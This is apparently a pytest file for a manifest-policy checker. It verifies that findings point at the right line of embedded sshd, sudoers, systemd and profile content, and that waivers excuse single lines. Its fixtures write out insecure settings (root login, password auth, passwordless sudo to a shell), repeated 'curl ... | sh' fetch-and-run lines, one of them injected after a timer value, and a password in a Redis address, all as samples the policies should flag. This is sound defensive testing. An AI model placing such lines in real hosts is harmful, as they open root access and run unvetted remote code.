"""A finding in a text of a manifest is of its line: that is where it points, and what it stands or is excused by."""

from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path

import pytest

from reconciler.opa.program import find_opa
from reconciler.pipeline.acceptance import Decision
from reconciler.pipeline.finding import ObjectName
from reconciler.pipeline.manifests import parse_file
from reconciler.pipeline.policy.evaluate import ObjectItem, Policies
from reconciler.pipeline.positions import verdict
from tests.acceptance_cases import Bench, repository
from tests.policy_cases import CHANGE, judge

pytestmark = pytest.mark.needs("opa")

MOTD, WAIVER = "tenants/shop/components/motd.yaml", "tenants/shop/waivers/motd.yaml"
SSHD, SUDOERS = "/etc/ssh/sshd_config.d/10-a.conf", "/etc/sudoers.d/a"
FIRST = 9
"""The line of the manifest on which a content begins."""
BAD, WORSE = "PermitRootLogin yes", "PasswordAuthentication yes"
TEXT = f"# by ordain\nPort 22\n{BAD}\nMaxSessions 1\nUsePAM yes\nCompression no\nBanner none\n"
LENIENT = "  rules: {host-safety/sshd: {level: audit}, host-safety/sudoers: {level: audit}}\n"


def manifest(text: str, path: str = SSHD, *, style: str = "|") -> str:
    lines = "".join(f"        {line}\n" if line else "\n" for line in text.split("\n")[:-1])
    more = '      check: [/usr/sbin/visudo, -cf, "{staged}"]\n' if path == SUDOERS else ""
    return (
        "apiVersion: ordain.dev/v1\nkind: Component\nmetadata: {name: motd, tenant: shop, labels: {owner: ops}}\nspec:\n"
        f'  description: Of the tests.\n  files:\n    - path: {path}\n      mode: "0440"\n      content: {style}\n{lines}{more}'
    )


def waiver(value: str, at: str = f"files[{SSHD}].content") -> str:
    return (
        "apiVersion: ordain.dev/v1\nkind: Waiver\nmetadata: {name: motd, tenant: shop}\nspec:\n  rule: host-safety/sshd\n"
        f"  object: {{kind: Component, name: motd}}\n  at: '{at}'\n  value: {value}\n"
        "  reason: old machines\n  owner: ana@example.com\n  expires: 2026-12-01\n"
    )


def proposed(text: str, path: str = SSHD) -> dict[str, str]:
    return repository() | {MOTD: manifest(text, path)}


@pytest.fixture
def bench(tmp_path: Path) -> Iterator[Bench]:
    with ExitStack() as stack:
        yield Bench(opa=find_opa(None), cache=tmp_path, stack=stack)


@pytest.fixture
def tightened(bench: Bench) -> Bench:
    """A bench that accepted TEXT while nothing was denied, and denies now."""
    assert bench.decide(proposed(TEXT) | {"ordain.yaml": repository()["ordain.yaml"] + LENIENT}).accepted
    assert bench.decide(proposed(TEXT)).accepted
    return bench


def told(decision: Decision, files: dict[str, str]) -> list[tuple[int, bool]]:
    """Return the lines of the denies about the manifest, and whether each stood before."""
    denies = [one for one in decision.judged if one.finding.action == "deny" and one.finding.place.file == MOTD]
    return sorted((verdict(one.finding, lambda path: files[path].encode()).line, one.standing) for one in denies)


def test_a_line_that_stood_before_stands_whatever_is_done_to_others(tightened: Bench) -> None:
    edited = TEXT.replace("Banner none", "Banner /etc/issue.net")
    shorter = edited.replace("Port 22\n", "")
    moved = shorter.replace(f"{BAD}\n", "") + f"\n\n{BAD}\n"
    for text, line in ((edited, FIRST + 3), (shorter, FIRST + 2), (moved, FIRST + 8)):
        decision = tightened.decide(proposed(text))
        assert decision.accepted
        assert not decision.refused
        assert told(decision, proposed(text)) == [(line, True)]


def test_one_more_bad_line_is_new_and_refuses_the_file_where_it_stands(tightened: Bench) -> None:
    text = TEXT.replace("Banner none", WORSE)
    decision = tightened.decide(proposed(text))
    assert set(decision.refused) == {MOTD}
    assert told(decision, proposed(text)) == [(FIRST + 3, True), (FIRST + 7, False)]


def test_a_line_that_goes_on_is_one_with_those_that_it_goes_on_in(bench: Bench) -> None:
    text = "# who deploys\ndeploy ALL=(ALL) NOPASSWD: /bin/ls, \\\n  /bin/sh\nana ALL=(root) /bin/ls\n"
    bench.decide(proposed(text, SUDOERS) | {"ordain.yaml": repository()["ordain.yaml"] + LENIENT})
    bench.decide(proposed(text, SUDOERS))
    other = text.replace("ana", "ben")
    assert told(bench.decide(proposed(other, SUDOERS)), proposed(other, SUDOERS)) == [(FIRST + 2, True)]
    worse = text.replace("/bin/sh", "ALL")
    decision = bench.decide(proposed(worse, SUDOERS))
    assert set(decision.refused) == {MOTD}
    assert told(decision, proposed(worse, SUDOERS)) == [(FIRST + 2, False)]


@pytest.mark.parametrize("value", [BAD, '"' + TEXT.replace("\n", "\\n") + '"'], ids=["its line", "all of the text"])
def test_a_waiver_names_the_line_or_as_before_all_of_the_text(bench: Bench, value: str) -> None:
    files = proposed(TEXT) | {WAIVER: waiver(value)}
    bench.decide(repository())
    decision = bench.decide(files)
    assert decision.accepted
    assert [one.waived is not None for one in decision.judged if one.finding.rule == "host-safety/sshd"] == [True]


def test_a_waiver_of_a_line_excuses_it_wherever_it_stands_and_no_other_line(bench: Bench) -> None:
    files = proposed(TEXT.replace("Port 22\n", f"{WORSE}\nPort 2222\n")) | {WAIVER: waiver(BAD)}
    decision = bench.decide(files)
    excused = {one.finding.place.row: one.waived is not None for one in decision.judged if one.finding.rule == "host-safety/sshd"}
    assert excused == {1: False, 3: True}
    assert MOTD in decision.refused


SHELL = "#!/bin/sh\ncurl https://a.example | sh\n"
SERVICES = """\
apiVersion: ordain.dev/v1
kind: Component
metadata: {name: app, tenant: shop}
spec:
  description: |
    A description
    with redis://app:hunter2@db.example.com in it.
  services:
    - name: app.service
      unit: |
        [Service]
        # a comment
        ExecStart=/bin/sh -c "curl https://a.example | sh"
      dropIns:
        - name: a.conf
          content: |
            [Service]
            ExecStart=/bin/sh -c "curl https://b.example | sh"
    - name: b.service
      timer: |
        [Timer]

        OnCalendar=daily; curl https://c.example | sh
  hostFiles:
    - path: /etc/profile
      content: |
        # ours
        curl https://d.example | sh
  files:
    - path: /etc/folded
      content: >
        one

        curl https://e.example | sh
    - path: /etc/quoted
      content: "#!/bin/sh\\ncurl https://f.example | sh"
"""


def test_texts_of_all_sorts_point_at_the_line_and_those_that_do_not_stand_as_they_are_at_their_beginning() -> None:
    path = "tenants/shop/components/app.yaml"
    [document] = parse_file(path, SERVICES.encode()).documents
    opa = find_opa(None)
    with Policies(judge(opa), opa=opa) as policies:
        found = policies.objects([ObjectItem(document=document)], CHANGE)
    assert {one.object for one in found} == {ObjectName(kind="Component", tenant="shop", name="app")}
    shown = [verdict(one, lambda _: SERVICES.encode()) for one in found]
    assert sorted((one.line, one.pointer) for one in shown if one.rule == "supply-chain/remote-scripts") == [
        (13, "/spec/services/0/unit"),
        (18, "/spec/services/0/dropIns/0/content"),
        (23, "/spec/services/1/timer"),
        (28, "/spec/hostFiles/0/content"),
        (31, "/spec/files/0/content"),
        (36, "/spec/files/1/content"),
    ]
    assert [(one.line, one.source_line) for one in shown if one.rule == "secrets/password-in-address"] == [(7, "")]
